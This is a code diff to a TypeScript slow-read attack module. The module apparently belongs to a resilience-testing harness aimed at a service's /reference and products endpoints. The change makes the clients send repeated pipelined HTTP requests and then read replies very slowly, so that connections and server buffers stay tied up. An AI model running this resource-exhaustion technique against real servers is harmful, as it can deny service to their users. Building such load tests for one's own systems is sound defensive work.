@@ -1,10 +1,12 @@
 import { type Attack, OTHER_ADDRESS, type Target } from '../attack.ts';
-import { headOf, holdSockets, readSlowly } from '../sockets.ts';
+import { type Held, headOf, holdSockets, pauseUnless, readSlowly } from '../sockets.ts';
 
 const BYTES = 8_192;
 const EVERY_MS = 4_000;
 /** Asked for in one go where one answer is less than the system's buffers of a connection hold. */
-const PIPELINED = 20;
+const PIPELINED = 5;
+const ASKS_AGAIN = 4;
+const ASKS_AGAIN_MS = 400;
 
 /** Clients that ask for much and read little of it: 8 kB every four seconds. */
 export const SLOW_READERS = {
@@ -28,14 +30,30 @@ function reads(
     isShort,
     play(target, from, signal) {
       const { port } = target;
-      const goOn = readSlowly(BYTES, EVERY_MS);
-      return holdSockets({ port, from, count, opening: request(target), goOn, signal });
+      const opening = request(target);
+      const goOn = askMoreAndRead(opening);
+      return holdSockets({ port, from, count, opening, goOn, signal });
     },
   };
 }
 
+/**
+ * Asks again a few times, then reads slowly: Linux takes up to 4 MB off the service's hands, which is three times
+ * the reference, and what is asked for all at once is refused at once.
+ */
+function askMoreAndRead(request: string): NonNullable<Held['goOn']> {
+  return async (socket, signal) => {
+    socket.pause();
+    for (let time = 0; time < ASKS_AGAIN && !socket.destroyed; time += 1) {
+      await pauseUnless(ASKS_AGAIN_MS, signal);
+      if (socket.writable) socket.write(request);
+    }
+    await readSlowly(BYTES, EVERY_MS)(socket, signal);
+  };
+}
+
 function reference(): string {
-  return headOf('GET /reference', { Accept: 'text/html' }).repeat(3);
+  return headOf('GET /reference', { Accept: 'text/html' });
 }
 
 function products({ productToken }: Target): string {
